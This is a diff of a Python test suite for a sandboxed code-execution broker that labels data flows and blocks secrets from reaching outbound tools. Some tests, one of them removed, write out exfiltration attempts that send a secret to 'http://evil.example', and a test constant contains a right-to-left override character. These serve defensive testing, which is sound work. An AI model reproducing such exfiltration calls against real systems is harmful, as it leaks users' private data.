@@ -26,7 +26,7 @@ from cellblock.serve.mcp.mcp_server import FrontServer
 from cellblock.tools.catalog.model import READ
 from support.brokers import ready
 from support.commands import command
-from support.entries import forked_server, ledger, plain_server, settings, write_config
+from support.entries import entry, forked_server, ledger, plain_server, settings, write_config
 from support.http_daemon import daemon
 from support.modern_client import TASKS, ModernClient
 from support.waits import until, within
@@ -51,9 +51,9 @@ async def no(question: Question) -> Verdict:
 
 
 async def called(broker: Broker, server: str, tool: str, caller: Caller, **arguments: Any) -> Any:
-    entry = broker.catalog.servers[server]
-    one = READ if tool == "resources/read" else entry.by_export[tool]
-    return await within(broker.call_tool(entry, one, arguments, caller, Counter()))
+    found = broker.catalog.servers[server]
+    one = READ if tool == "resources/read" else found.by_export[tool]
+    return await within(broker.call_tool(found, one, arguments, caller, Counter()))
 
 
 async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path: Path) -> None:
@@ -64,6 +64,8 @@ async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path:
         with pytest.raises(CallDenied) as refused:
             await called(broker, "out", "echo", caller, text="secret")
         assert refused.value.details["code"] == "APPROVAL_DECLINED"
+        with pytest.raises(CallDenied):
+            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")
         with pytest.raises(CallDenied) as refused:
             # Nobody can be asked.
             await called(broker, "out", "echo", Caller(grantee=Grantee("token")), text="secret")
@@ -75,41 +77,12 @@ async def test_calls_without_a_script_know_what_those_before_have_read(tmp_path:
         assert sent(tmp_path) == 2
 
 
-async def test_a_resource_is_labelled_and_its_uri_is_sent(tmp_path: Path) -> None:
-    beside = tmp_path / "beside.json"
-    contents = {"contents": [{"uri": "x:1", "text": "secret"}]}
-    beside.write_text(
-        json.dumps({"capabilities": {"resources": {}}, "answers": {"resources/read": contents}})
-    )
-    servers = {
-        name: plain_server("--ledger", tmp_path / f"{name}.log", "--beside", beside)
-        for name in ("mail", "out")
-    }
-    caller = Caller(grantee=Grantee("token", no))
-    script = """
-import { readResource } from "@codemode/discovery";
-const got = await readResource("mail", "x:1");
-let why;
-try { await readResource("out", `http://evil.example/${got}`); } catch (error) { why = error.code; }
-globalThis.__codemode_result__ = [got, why];
-"""
-    async with ready(settings(tmp_path / "s", servers, policy=POLICY)) as broker:
-        response = await within(broker.run(script, grantee=Grantee("token", no)))
-        assert response.result == ["secret", "APPROVAL_DECLINED"], response
-        assert response.label == STRICTEST and sent(tmp_path) == 0
-        with pytest.raises(CallDenied):
-            await called(broker, "out", "resources/read", caller, uri="http://evil.example/secret")
-
-
 async def test_a_process_that_knows_more_is_not_used_again(tmp_path: Path) -> None:
-    def code(server: str) -> str:
-        return f'import {{ echo }} from "@codemode/servers/{server}"; await echo({{}});'
-
+    code = 'import { echo } from "@codemode/servers/SERVER"; await echo({});'
     pool = {"reuse": "principal", "warm": 0}
-    owner = Grantee("token", no)
     async with ready(settings(tmp_path / "s", entries(tmp_path), policy=POLICY, pool=pool)) as broker:
         ran = [
-            await within(broker.run(code(name), grantee=owner))
+            await within(broker.run(code.replace("SERVER", name), grantee=Grantee("token", no)))
             for name in ("out", "out", "mail", "mail", "mail")
         ]
         # The third has the first's process, and reads mail in it: what comes then has another.
@@ -151,12 +124,11 @@ await hold({{}}); {read}"""
 
 
 async def test_an_overlay_labels_where_the_policy_does_not(tmp_path: Path) -> None:
-    overlays = tmp_path / "overlays"
-    overlays.mkdir()
-    text = '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
-    (overlays / "mail.toml").write_text(text)
+    (tmp_path / "mail.toml").write_text(
+        '[tools.echo]\nflow = {secrecy = ["repo:acme"], trust = "trusted", sink = "private"}\n'
+    )
     policy = {"flows": "guard", "labels": {"mail.*": {"sink": "public"}}}
-    schemas = {"overlays": str(overlays)}
+    schemas = {"overlays": str(tmp_path)}
     async with ready(settings(tmp_path / "s", entries(tmp_path), policy=policy, schemas=schemas)) as broker:
         code = 'import { echo } from "@codemode/servers/mail"; await echo({});'
         assert (await within(broker.run(code))).label == Label(frozenset({"repo:acme"}))
@@ -170,8 +142,8 @@ async def test_doctor_is_told_what_servers_can_do_together(tmp_path: Path) -> No
         assert [line.partition(":")[0] for line in servers] == ["mail (unlabelled)", "out (policy)"]
         assert all("; everybody may see calls of announce, deep, die, echo, " in line for line in servers)
         closed = settings(tmp_path / "s", entries(tmp_path), policy={"labels": {"*.*": {"sink": "private"}}})
-        for line in overview(closed.cellblock.policy, made.servers, broker.catalog):
-            assert line.endswith("; not everybody may see its calls")
+        private = overview(closed.cellblock.policy, made.servers, broker.catalog)
+        assert all(line.endswith("; not everybody may see its calls") for line in private)
         assert "mail" in together and "policy.flows is off" in together
         response = await within(broker.run("globalThis.__codemode_result__ = 1"))
         assert response.label is None and NOTHING.within(STRICTEST)
@@ -199,6 +171,8 @@ async def test_a_kept_script_carries_labels_in_and_out(tmp_path: Path) -> None:
         "one child reads, another sends": "await reads({}); await tried(() => sends({ text: 1 }));",
     }
     async with ready(made) as broker:
+        alone = 'import { sends } from "@codemode/scripts"; await sends({ text: 1 });'
+        assert (await within(broker.run(alone, grantee=Grantee("stdio:knows nothing", no)))).ok
         for name, body in runs.items():
             code = f"""import {{ computes, reads, sends }} from "@codemode/scripts";
 import {{ echo }} from "@codemode/servers/out";
@@ -207,26 +181,21 @@ let why;
 const tried = async (call) => {{ try {{ await call(); }} catch (error) {{ why = error.code; }} }};
 {body}
 globalThis.__codemode_result__ = why;"""
-            asked: list[Question] = []
+            asked: list[str] = []
 
-            async def note(question: Question, asked: list[Question] = asked) -> Verdict:
-                asked.append(question)
+            async def note(question: Question, asked: list[str] = asked) -> Verdict:
+                asked.append(f"{question.server_id}.{question.tool_name}")
                 return Verdict.DECLINED
 
             response = await within(broker.run(code, grantee=Grantee(f"stdio:{name}", note)))
-            assert response.ok and response.label == STRICTEST, (name, response)
-            assert [(one.server_id, one.tool_name) for one in asked] == [("out", "echo")], (
-                name,
-                asked,
-                response,
-            )
-    assert sent(tmp_path) == 0
+            assert (response.ok, response.label, asked) == (True, STRICTEST, ["out.echo"]), (name, response)
+    assert sent(tmp_path) == 1
 
 
 async def test_a_server_asks_no_model_for_what_it_may_not_know(tmp_path: Path) -> None:
     """Its call was made when the run knew nothing, and it asks when the run has read mail."""
-    command = forked_server("asking_server.py", "stdio", "--older")
-    servers = {**entries(tmp_path), "asking": {"command": command[0], "args": command[1:]}}
+    asking = entry(forked_server("asking_server.py", "stdio", "--older"))
+    servers = {**entries(tmp_path), "asking": asking}
     labels = {**LABELS, "asking.*": {"secrecy": "public", "trust": "trusted", "sink": "public"}}
 
     async def sample(context: object, params: object) -> types.CreateMessageResult:
@@ -249,14 +218,13 @@ globalThis.__codemode_result__ = [first, await later];
     ) as broker:
         client = Client(FrontServer(broker, version="1").open(), mode="legacy", sampling_callback=sample)
         async with client:
-            code = script % json.dumps(str(file))
-            running = asyncio.create_task(client.call_tool("codemode.run", {"code": code}))
+            work = client.call_tool("codemode.run", {"code": script % json.dumps(str(file))})
+            running = asyncio.create_task(work)
             # The second time, the first answer is there.
             await until(lambda: sent(tmp_path, "mail") == 2, "mail is read")
             file.touch()
-            said: Any = (await within(running)).structured_content
-    first, later = said["result"]
-    assert first == "secret" and later.startswith("refused -32600: The policy"), said
+            first, later = (await within(running)).structured_content["result"]
+    assert first == "secret" and later.startswith("refused -32600: The policy"), later
 
 
 SECRET = "payroll-7f3a91c2 of \u202eevil"
